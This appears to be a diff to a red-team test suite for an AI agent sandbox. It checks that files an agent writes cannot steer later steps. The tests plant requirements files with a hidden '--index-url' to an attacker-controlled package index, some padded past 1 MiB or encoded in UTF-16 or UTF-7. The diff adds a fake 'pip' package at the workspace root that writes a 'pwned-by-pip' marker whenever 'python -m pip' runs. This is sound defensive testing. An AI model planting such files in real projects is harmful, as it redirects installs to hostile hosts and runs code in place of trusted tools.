@@ -226,8 +226,9 @@ describeJail('red team: nothing of the agent\'s making steers a later step', () 
     for (const file of ['review.md', 'review-utf16.md']) expect({ file, commands: (await steered(file)).length }).toEqual({ file, commands: 1 });
   });
 
-  it('tool configuration that sends a later install elsewhere: index options in a requirements file, past its first MiB, in UTF-16 or under a coding line', async () => {
+  it('tool configuration that sends a later install elsewhere or runs in its place: index options in a requirements file (past its first MiB, in UTF-16, under a coding line), a pip package at the root', async () => {
     const ws = checkout();
+    const shadowed = path.join(ws, 'pwned-by-pip');
     fs.writeFileSync(path.join(ws, 'requirements.txt'), 'left-pad-py==1.0\n');
     execFileSync('chown', [`${scene.user.uid}:${scene.user.gid}`, path.join(ws, 'requirements.txt')]);
     const evilIndex = `--index-url ${scene.evil.url}simple/`;
@@ -241,14 +242,18 @@ describeJail('red team: nothing of the agent\'s making steers a later step', () 
       `yes '# ${'x'.repeat(98)}' | head -n 12000 > requirements.txt && printf '%s\\n%s\\n' '${evilIndex}' 'left-pad-py==1.0' >> requirements.txt`,
       `printf '${octal(utf16)}' > dev-requirements.txt`,
       `printf '${octal(utf7)}' > constraints.txt`,
+      // `python -m pip` puts the folder it runs in first on sys.path.
+      `mkdir pip && : > pip/__init__.py && echo 'open("pwned-by-pip", "w")' > pip/__main__.py`,
     ].join(' && '));
     expectRan(r);
     for (const file of ['requirements.txt', 'dev-requirements.txt', 'constraints.txt']) expect(r.stderr).toContain(`boundary: ${file}: refused: pip reads`);
+    for (const file of ['pip/__init__.py', 'pip/__main__.py']) expect(r.stderr).toContain(`boundary: ${file}: refused: \`python -m pip\``);
     // The later step names its own index; pip still takes the file's, as the controls show.
     const pip = (file: string) => later(ws, '/usr/bin/python3', ['-m', 'pip', 'download', '--no-deps', '--retries', '0', '--timeout', '3', '-d', path.join(scene.user.home, 'dl'), '-r', file, '--index-url', `${scene.legit.url}simple/`]);
     scene.evil.seen.length = 0;
     for (const file of ['requirements.txt', 'dev-requirements.txt', 'constraints.txt']) await pip(file);
     expect(scene.evil.seen).toEqual([]);
+    expect(fs.existsSync(shadowed)).toBe(false);
     // Controls: each agent file in place sends the install to the agent's host.
     const controls: [string, Buffer][] = [['requirements.txt', Buffer.from(`${'# pad\n'.repeat(200_000)}${wanted}`)], ['dev-requirements.txt', utf16], ['constraints.txt', utf7]];
     for (const [file, bytes] of controls) {
@@ -257,5 +262,8 @@ describeJail('red team: nothing of the agent\'s making steers a later step', () 
       expect({ file, seen: scene.evil.seen.map((x) => x.url) }).toEqual({ file, seen: ['/simple/left-pad-py/'] });
       scene.evil.seen.length = 0;
     }
+    execFileSync('sh', ['-c', `mkdir pip && : > pip/__init__.py && echo 'open("pwned-by-pip", "w")' > pip/__main__.py && chmod -R a+rX pip`], { cwd: ws });
+    await later(ws, '/usr/bin/python3', ['-m', 'pip', '--version']);
+    expect(fs.existsSync(shadowed)).toBe(true);
   });
 });
